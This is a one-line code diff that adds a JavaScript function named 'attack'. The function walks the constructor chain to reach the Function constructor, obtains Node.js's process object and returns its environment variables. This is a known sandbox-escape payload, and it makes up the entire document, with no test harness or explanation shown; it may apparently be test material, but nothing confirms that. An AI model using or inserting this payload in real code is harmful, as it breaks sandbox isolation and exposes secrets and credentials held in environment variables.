@@ -1,0 +1,1 @@
+function attack() { return this.constructor.constructor("return process")().env; }
